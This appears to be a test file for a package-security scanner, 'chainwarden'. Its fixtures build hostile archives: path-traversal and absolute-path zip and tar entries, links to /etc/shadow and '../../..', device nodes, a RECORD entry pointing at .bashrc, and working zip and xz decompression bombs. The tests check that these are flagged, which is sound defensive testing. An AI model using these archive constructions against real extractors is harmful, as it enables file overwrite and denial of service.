def test_the_terminal_report_says_not_checked(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    code = main(["inspect", str(_encrypted(tmp_path))])
    out = capsys.readouterr().out
    assert code == 3 and "NOT CHECKED" in out and "CLEAN" not in out and "encrypted" in out


# --- 3. structure that no honest package has: high anomalies, suspicious --------------------------


def _header_mismatch(d: Path) -> Path:
    raw = zip_members(d / "x.zip", [("harmless.py", b"print(1)"), ("other.py", b"x")], zipfile.ZIP_STORED).read_bytes()
    at = raw.index(b"harmless.py")
    return _write(d / "demo.zip", raw[:at] + b"malicious.p" + raw[at + len("harmless.py"):])


def _two_eocds(d: Path) -> Path:
    first = zip_members(d / "a.zip", [("front.py", b"x = 1\n")]).read_bytes()
    second = zip_members(d / "b.zip", [("back.py", b"y = 2\n")]).read_bytes()
    return _write(d / "demo.zip", first + second)


def _overlap_bomb(d: Path) -> Path:
    """Fifield's overlapping-file bomb: 2,000 directory entries share one 10 MiB kernel (one name: the local header's)."""
    packed = deflate(bytes(10 * MiB))
    crc = zlib.crc32(bytes(10 * MiB))
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(packed), 10 * MiB, 5, 0) + b"k.bin" + packed
    cd = b"".join(struct.pack("<4s6H3I5HII", b"PK\x01\x02", 0x031E, 20, 0, 8, 0, 0, crc, len(packed), 10 * MiB,
                              5, 0, 0, 0, 0, 0o100644 << 16, 0) + b"k.bin" for _ in range(2000))
    return _write(d / "bomb.zip", local + cd + eocd(2000, len(cd), len(local)))


def _zip_mode(kind: int) -> Callable[[Path], Path]:
    def build(d: Path) -> Path:
        info = zipfile.ZipInfo("demo/thing")
        info.create_system = 3
        info.external_attr = (kind | 0o777) << 16
        with zipfile.ZipFile(d / "demo.zip", "w") as zf:
            zf.writestr(info, b"/etc/passwd")
            zf.writestr("demo/a.py", b"x = 1\n")
        return d / "demo.zip"
    return build


HIGH: dict[str, tuple[Callable[[Path], Path], str]] = {
    "zip: ../ in a name": (lambda d: zip_members(d / "demo.zip", [("../../escape.py", b"x"), ("a.py", b"x")]), "path-traversal"),
    "zip: ..\\ in a name": (lambda d: zip_members(d / "demo.zip", [("..\\..\\escape.py", b"x")]), "path-traversal"),
    "zip: an absolute name": (lambda d: zip_members(d / "demo.zip", [("/tmp/chainwarden-escape.py", b"x")]), "absolute-path"),
    "zip: a drive letter": (lambda d: zip_members(d / "demo.zip", [("C:\\evil.dll", b"x")]), "absolute-path"),
    "zip: a symlink mode": (_zip_mode(0o120000), "link"),
    "zip: a FIFO mode": (_zip_mode(0o010000), "device"),
    "tar: ../ in a name": (lambda d: tar_members(d / "demo.tar", [tar_info("../escape.py", b"x")], "w"), "path-traversal"),
    "tar: an absolute name": (lambda d: tar_members(d / "demo.tar", [tar_info("/tmp/chainwarden-escape.py", b"x")], "w"),
                              "absolute-path"),
    "tar: a NUL byte in a name": (lambda d: tar_members(d / "demo.tar", [tar_info("demo/a\x00é.py", b"x")], "w",
                                                        format=tarfile.PAX_FORMAT), "path-traversal"),
    "tar: a symlink out of the folder": (lambda d: tar_members(d / "demo.tar", [
        tar_info("demo/up", type=tarfile.SYMTYPE, linkname="../../.."), tar_info("demo/up/x.py", b"x")], "w"), "link"),
    "tar: a hard link": (lambda d: tar_members(d / "demo.tar", [tar_info("demo/h", type=tarfile.LNKTYPE, linkname="/etc/shadow")],
                                               "w"), "link"),
    "tar: a character device": (lambda d: tar_members(d / "demo.tar", [tar_info("demo/null", type=tarfile.CHRTYPE, devmajor=1,
                                                                          devminor=3)], "w"), "device"),
    "tar: a FIFO": (lambda d: tar_members(d / "demo.tar", [tar_info("demo/fifo", type=tarfile.FIFOTYPE)], "w"), "device"),
    "zip: a local header that names another file": (_header_mismatch, "zip-header-mismatch"),
    "zip: two end records (concatenated zips)": (_two_eocds, "zip-multiple-eocd"),
    "zip: overlapping entries (Fifield's bomb)": (_overlap_bomb, "zip-overlap"),
    "tar: a file, then a folder of the same name": (lambda d: tar_members(d / "demo.tar", [
        tar_info("demo/x", b"x"), tar_info("demo/x", type=tarfile.DIRTYPE)], "w"), "duplicate-name"),
}


@pytest.mark.parametrize("case", list(HIGH))
def test_structure_no_honest_package_has_is_a_high_anomaly(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                           system_tmp: Path, case: str) -> None:
    builder, kind = HIGH[case]
    (tmp_path / "in").mkdir()
    archive = builder(tmp_path / "in")
    before = {p.relative_to(tmp_path) for p in tmp_path.rglob("*")}
    code, doc = inspect(capsys, archive)
    found = [f for f in rules(doc).get("archive-anomaly", []) if f["message"].startswith(kind)]
    assert found and found[0]["severity"] == "high", doc["findings"]
    assert code == 1 and doc["verdict"] == "suspicious"
    after = {p.relative_to(tmp_path) for p in tmp_path.rglob("*")}
    assert after == before  # nothing written next to the archive, nor (system_tmp fixture) in the temporary directory
    assert not Path("/tmp/chainwarden-escape.py").exists()


# --- 4. wheel RECORD -----------------------------------------------------------------------------


def _record(files: dict[str, bytes], **override: str) -> str:
    lines = [override.get(n, record_line(n, d)) for n, d in files.items()]
    base = {"demo-1.0.dist-info/METADATA": PKG_INFO,
            "demo-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    return "".join(lines) + "".join(record_line(n, d) for n, d in base.items()) + "demo-1.0.dist-info/RECORD,,\n"


def test_a_wheel_whose_record_matches_has_no_finding(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    code, doc = inspect(capsys, wheel(tmp_path / "demo-1.0-py3-none-any.whl", {"demo/__init__.py": BENIGN_PY.encode(),
                                                                                "demo/data.json": b"{}"}))
    assert (code, doc["verdict"]) == (0, "clean") and "wheel-record" not in rules(doc)


@pytest.mark.parametrize(("files", "record", "severity", "text"), [
    ({"demo/__init__.py": b"x = 1\n", "demo/_hook.py": b"y = 2\n"}, {"demo/_hook.py": ""}, "high", "does not list"),
    ({"demo/__init__.py": b"x = 1\n"}, {"demo/__init__.py": record_line("demo/__init__.py", b"x = 2\n")}, "high", "differs"),
    ({"demo/__init__.py": b"x = 1\n", "demo/data.json": b"{}"}, {"demo/data.json": record_line("demo/data.json", b"[]")},
     "medium", "differs"),
    ({"demo/__init__.py": b"x = 1\n"}, {"demo/__init__.py": record_line("demo/__init__.py", b"x = 1\n")
                                        + record_line("../../../.bashrc", b"")}, "high", "outside the wheel"),
    ({"demo/__init__.py": b"x = 1\n"}, {"demo/__init__.py": record_line("demo/__init__.py", b"x = 1\n")
                                        + record_line("demo/gone.py", b"z")}, "low", "does not ship"),
], ids=["unlisted-code", "code-digest", "data-digest", "outside", "missing"])
def test_a_wheel_that_does_not_match_its_record(capsys: pytest.CaptureFixture[str], tmp_path: Path, files: dict[str, bytes],
                                                record: dict[str, str], severity: str, text: str) -> None:
    code, doc = inspect(capsys, wheel(tmp_path / "demo-1.0-py3-none-any.whl", files, record=_record(files, **record)))
    found = rules(doc).get("wheel-record", [])
    assert [f["severity"] for f in found] == [severity] and text in found[0]["message"], found
    assert code == (1 if severity == "high" else 0)


def test_hex_digests_in_record_are_accepted(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """Some build tools write sha256=<hex> (gmsh's wheels): the same digest, another spelling."""
    files = {"demo/__init__.py": b"x = 1\n"}
    hexed = {n: f"{n},sha256={hashlib.sha256(d).hexdigest()},{len(d)}\n" for n, d in files.items()}
    code, doc = inspect(capsys, wheel(tmp_path / "demo-1.0-py3-none-any.whl", files, record=_record(files, **hexed)))
    assert (code, doc["verdict"]) == (0, "clean") and "wheel-record" not in rules(doc)


def test_a_record_with_hostile_fields_does_not_crash(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    record = 'demo/__init__.py,sha256=x,' + "9" * 100_000 + '\n"unterminated\n' + "a," * 200_000 + "\n"
    code, doc = inspect(capsys, wheel(tmp_path / "demo-1.0-py3-none-any.whl", {"demo/__init__.py": b"x = 1\n"}, record=record))
    assert code in (0, 1, 3) and "wheel-record" in rules(doc)


# --- 5. time, memory and signals (child processes) ---------------------------------------------


def child_env(tmp: Path) -> dict[str, str]:
    return {**os.environ, "TMPDIR": str(tmp), "PYTHONPATH": os.pathsep.join([str(ROOT / "src"), str(ROOT)])}


def _tree_cap_bomb(d: Path) -> Path:
    """40 members of 70 MiB of zeros each (each one's own kernel, not overlapping): 2.7 GiB from a 3 MB zip, then
    setup.py. Each member is stopped past 64 MiB by its ratio; their bytes add up to the 2 GiB tree cap."""
    data_len = 70 * MiB
    packed = deflate(bytes(data_len))
    crc = zlib.crc32(bytes(data_len))
    body, cd = b"", b""
    members = [(f"demo-1.0/z{i:02}.bin", packed, 8, crc, data_len) for i in range(40)]
    members.append(("demo-1.0/setup.py", MAL_SETUP.encode(), 0, zlib.crc32(MAL_SETUP.encode()), len(MAL_SETUP)))
    for name, data, method, c, size in members:
        local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, method, 0, 0, c, len(data), size, len(name), 0)
        cd += struct.pack("<4s6H3I5HII", b"PK\x01\x02", 0x031E, 20, 0, method, 0, 0, c, len(data), size, len(name), 0,
                          0, 0, 0, 0o100644 << 16, len(body)) + name.encode()
        body += local + name.encode() + data
    return _write(d / "demo-1.0.zip", body + cd + eocd(len(members), len(cd), len(body)))


@pytest.mark.parametrize(("builder", "verdict", "kind"), [
    (_zip_bomb, "not-checked", "compression-ratio"),
    (_overlap_bomb, "suspicious", "zip-overlap"),
    (lambda d: concat_bomb(d / "bomb.tar.xz", lambda b: lzma.compress(b, preset=1), 1024 * MiB),
     "not-checked", "compression-ratio"),
    (_tree_cap_bomb, "suspicious", "decompression-bomb"),
], ids=["zip-300MiB", "overlap-2000x10MiB", "xz-1GiB", "tree-cap-2.7GiB"])
def test_bombs_are_bounded_in_time_and_memory(tmp_path: Path, builder: Callable[[Path], Path], verdict: str,
                                               kind: str) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "tmp").mkdir()
    archive = builder(tmp_path / "in")
    assert archive.stat().st_size < 5 * MiB
    child = run_cli(["inspect", str(archive), "--format", "json"], timeout=300, cwd=tmp_path / "tmp",
                    env={"TMPDIR": str(tmp_path / "tmp")})
    code, seconds, err = child.code, child.seconds, child.stderr
    assert "Traceback" not in err and code != 4, err
    doc = json.loads(child.stdout)
    assert doc["verdict"] == verdict and kind in anomaly_kinds(doc), (doc["verdict"], anomaly_kinds(doc))
    assert code == (3 if verdict == "not-checked" else 1)
    assert seconds < 120, seconds  # generous: a loaded 2-core machine; measured in bench/bench_unpack.py
    bounded(child, 1024)
    assert list((tmp_path / "tmp").iterdir()) == []


def _slow_archive(d: Path) -> Path:
    """Enough small Python files that unpacking and reading them takes seconds: time to send a signal."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", compresslevel=1) as tf:
        body = (BENIGN_PY * 40).encode()
        for i in range(30_000):
            info = tarfile.TarInfo(f"demo-1.0/pkg{i // 500}/m{i}.py")
            info.size = len(body)
            tf.addfile(info, io.BytesIO(body))
    return _write(d / "demo-1.0.tar.gz", buf.getvalue())


def _filling(tmp: Path, count: int = 50) -> bool:
    """Some chainwarden-* work folder holds more than `count` unpacked files."""
    for work in tmp.glob("chainwarden-*"):
        for i, _ in enumerate(work.rglob("*.py")):
            if i >= count:
                return True
    return False


def _signal_child(args: list[str], tmp: Path, sig: int) -> tuple[int, float, str]:
    # SIGINT as a terminal delivers it: a test run as a background job would otherwise hand the child an
    # ignored SIGINT, which chainwarden (like every program) keeps ignoring
    proc = subprocess.Popen([sys.executable, "-m", "chainwarden", *args], stdout=subprocess.DEVNULL,
                            stderr=subprocess.PIPE, env=child_env(tmp), cwd=tmp,
                            preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:  # wait until untrusted files are being written
            if _filling(tmp):
                break
            assert proc.poll() is None, proc.stderr.read().decode() if proc.stderr else ""
            time.sleep(0.05)
        else:
            pytest.fail("the work folder never filled up")
        sent = time.monotonic()
        proc.send_signal(sig)
        _, err = proc.communicate(timeout=90)
        return proc.returncode, time.monotonic() - sent, err.decode()
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT], ids=["SIGTERM", "SIGINT"])
def test_an_interrupted_inspect_leaves_no_unpacked_files(tmp_path: Path, sig: int) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "tmp").mkdir()
    archive = _slow_archive(tmp_path / "in")
    code, seconds, err = _signal_child(["inspect", str(archive), "--format", "json"], tmp_path / "tmp", sig)
    assert code == 128 + sig and seconds < 60, (code, seconds, err)  # prompt: under a second on an idle machine
    assert "Traceback" not in err and ("terminated" if sig == signal.SIGTERM else "interrupted") in err
    assert list((tmp_path / "tmp").iterdir()) == []


def test_an_interrupted_deep_scan_stops_its_worker_thread_and_cleans_up(tmp_path: Path, tmp_registry: RegistryServer) -> None:
    """scan --deep unpacks in a worker thread (asyncio.to_thread): SIGTERM stops it within a chunk."""
    files = tmp_registry.root / "files"
    files.mkdir()
    archive = _slow_archive(files)
    pypi_project(tmp_registry.root, "demo", {"1.0": datetime(2025, 1, 1)}, files={"1.0": [archive]})
    project = tmp_path / "project"
    project.mkdir()
    (project / "requirements.txt").write_text("demo==1.0\n")
    (tmp_path / "tmp").mkdir()
    args = ["scan", str(project), "--deep", "--no-dns", "--no-progress", "--index-url", tmp_registry.pypi_index_url,
            "--no-cache", "--format", "json"]
    code, seconds, err = _signal_child(args, tmp_path / "tmp", signal.SIGTERM)
    assert code == 143 and seconds < 60, (code, seconds, err)  # prompt: under a second on an idle machine
    assert "Traceback" not in err
    assert list((tmp_path / "tmp").iterdir()) == []


def test_work_folders_are_private(capsys: pytest.CaptureFixture[str], tmp_path: Path, system_tmp: Path,
                                  monkeypatch: pytest.MonkeyPatch) -> None:
    from chainwarden.enrich.artifacts import workdir

    seen: list[int] = []
    real = workdir.work_dir

    @contextlib.contextmanager
    def spy(purpose: str) -> Iterator[Path]:
        with real(purpose) as path:
            seen.append(path.stat().st_mode & 0o777)
            yield path

    monkeypatch.setattr("chainwarden.pipeline.deep.work_dir", spy)
    inspect(capsys, wheel(tmp_path / "demo-1.0-py3-none-any.whl", {"demo/__init__.py": BENIGN_PY.encode()}))
    assert seen == [0o700]


# --- 6. scan --deep, diff and review --deep see the same -------------------------------------------


def _serve(registry: RegistryServer, name: str, releases: dict[str, Path]) -> None:
    (registry.root / "files").mkdir(exist_ok=True)
    pypi_project(registry.root, name, {v: datetime(2025, 1, i + 1) for i, v in enumerate(releases)},
                 files={v: [p] for v, p in releases.items()})


def _scan(capsys: pytest.CaptureFixture[str], project: Path, registry: RegistryServer, cache: Path, *extra: str) -> tuple[int, dict]:
    code = main(["scan", str(project), "--deep", "--no-dns", "--no-progress", "--index-url", registry.pypi_index_url,
                 "--cache-dir", str(cache), "--format", "json", *extra])
    out = capsys.readouterr()
    assert code != 4 and "Traceback" not in out.err, out.err
    return code, json.loads(out.out)


def test_scan_deep_skips_an_archive_it_could_not_read_and_strict_fails(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                                       tmp_registry: RegistryServer) -> None:
    files = tmp_registry.root / "files"
    files.mkdir()
    _serve(tmp_registry, "demo", {"1.0": _encrypted(files).rename(files / "demo-1.0.zip")})
    project = tmp_path / "project"
    project.mkdir()
    (project / "requirements.txt").write_text("demo==1.0\n")
    for _ in range(2):  # the second scan answers from the cache, and says the same
        code, doc = _scan(capsys, project, tmp_registry, tmp_path / "cache", "--strict")
        gaps = [s for s in doc["skipped"] if "demo" in s["what"] and "not read completely" in s["reason"]]
        assert gaps and "encrypted" in gaps[0]["reason"], doc["skipped"]
        assert code == 3
    assert len(tmp_registry.requests_to("/files/")) == 1


def test_scan_deep_finds_code_hidden_in_a_second_setup_py(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                           tmp_registry: RegistryServer) -> None:
    files = tmp_registry.root / "files"
    files.mkdir()
    _serve(tmp_registry, "demo", {"1.0": sdist_tar(files / "demo-1.0.tar.gz", [BENIGN_SETUP, MAL_SETUP])})
    project = tmp_path / "project"
    project.mkdir()
    (project / "requirements.txt").write_text("demo==1.0\n")
    code, doc = _scan(capsys, project, tmp_registry, tmp_path / "cache")
    assert code == 1
    hits = [f for f in doc["findings"] if f["rule"] == "secret-exfiltration"]
    assert hits and any("setup.py (copy 2 of 2)" in e["value"] for e in hits[0]["evidence"]), hits


def test_diff_is_not_checked_when_a_release_could_not_be_read(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                              tmp_registry: RegistryServer) -> None:
    files = tmp_registry.root / "files"
    files.mkdir()
    good = sdist_tar(files / "demo-1.0.tar.gz", [BENIGN_SETUP])
    bad = truncated(lambda d: sdist_tgz(d / "demo-1.1.tar.gz", [(f"demo-1.1/m{i}.py", os.urandom(3000).hex().encode())
                                                                for i in range(5)]))(files)
    _serve(tmp_registry, "demo", {"1.0": good, "1.1": bad})
    code = main(["diff", "demo", "1.0", "1.1", "--index-url", tmp_registry.pypi_index_url, "--cache-dir",
                 str(tmp_path / "cache"), "--format", "json"])
    doc = json.loads(capsys.readouterr().out)
    assert code == 3 and doc["complete"] is False and doc["new"]["verdict"] == "not-checked"
    assert any("not read completely" in n["reason"] for n in doc["not_checked"])


def test_review_deep_lists_an_update_it_could_not_read(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                       tmp_registry: RegistryServer) -> None:
    files = tmp_registry.root / "files"
    files.mkdir()
    _serve(tmp_registry, "demo", {"1.0": sdist_tar(files / "demo-1.0.tar.gz", [BENIGN_SETUP]),
                                  "1.1": _encrypted(files).rename(files / "demo-1.1.zip")})
    repo = tmp_path / "repo"
    repo.mkdir()

    def git(*args: str) -> None:
        subprocess.run(["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.test", *args],
                       check=True, capture_output=True)

    git("init", "-q")
    (repo / "requirements.txt").write_text("demo==1.0\n")
    git("add", "-A")
    git("commit", "-q", "-m", "1.0")
    (repo / "requirements.txt").write_text("demo==1.1\n")
    git("commit", "-q", "-am", "1.1")
    code = main(["review", "HEAD~1", "HEAD", str(repo), "--index-url", tmp_registry.pypi_index_url, "--no-dns", "--deep",
                 "--cache-dir", str(tmp_path / "cache"), "--format", "json"])
    out = capsys.readouterr()
    assert code != 4 and "Traceback" not in out.err, out.err
    doc = json.loads(out.out)
    assert any("demo" in s["what"] and "encrypted" in s["reason"] for s in doc["skipped"]), doc["skipped"]


def test_inspect_of_a_release_from_the_index_is_not_checked(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                            tmp_registry: RegistryServer) -> None:
    files = tmp_registry.root / "files"
    files.mkdir()
    _serve(tmp_registry, "demo", {"1.0": _encrypted(files).rename(files / "demo-1.0.zip")})
    code = main(["inspect", "demo==1.0", "--index-url", tmp_registry.pypi_index_url, "--cache-dir", str(tmp_path / "c"),
                 "--format", "json"])
    doc = json.loads(capsys.readouterr().out)
    assert code == 3 and doc["verdict"] == "not-checked"


# --- 7. fuzzing: random damage never crashes the run -------------------------------------------


def test_random_damage_to_real_shaped_archives_never_crashes(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    rng = random.Random(20261121)
    seeds = [
        wheel(tmp_path / "w.whl", {"demo/__init__.py": BENIGN_PY.encode(), "demo/x.py": MAL_PY.encode()}).read_bytes(),
        sdist_tgz(tmp_path / "s.tar.gz", [("demo-1.0/setup.py", BENIGN_SETUP.encode()), ("demo-1.0/PKG-INFO", PKG_INFO)]).read_bytes(),
        npm_tgz(tmp_path / "n.tgz", [("package/package.json", NPM_MANIFEST), ("package/install.js", BENIGN_JS.encode())]).read_bytes(),
        bz2.compress(tar_members(tmp_path / "t.tar", [tar_info("demo/a.py", b"x = 1\n")], "w").read_bytes()),
        lzma.compress(tar_members(tmp_path / "t2.tar", [tar_info("demo/a.py", b"x = 1\n")], "w").read_bytes()),
    ]
    for i in range(60):
        blob = bytearray(rng.choice(seeds))
        for _ in range(rng.randint(1, 6)):
            blob[rng.randrange(len(blob))] = rng.randrange(256)
        path = _write(tmp_path / f"fuzz{i}.whl", bytes(blob))
        code, doc = inspect(capsys, path)
        assert code in (0, 1, 3) and doc["verdict"] in ("malicious", "suspicious", "not-checked", "clean")
        if code == 0:
            assert not doc["not_checked"]
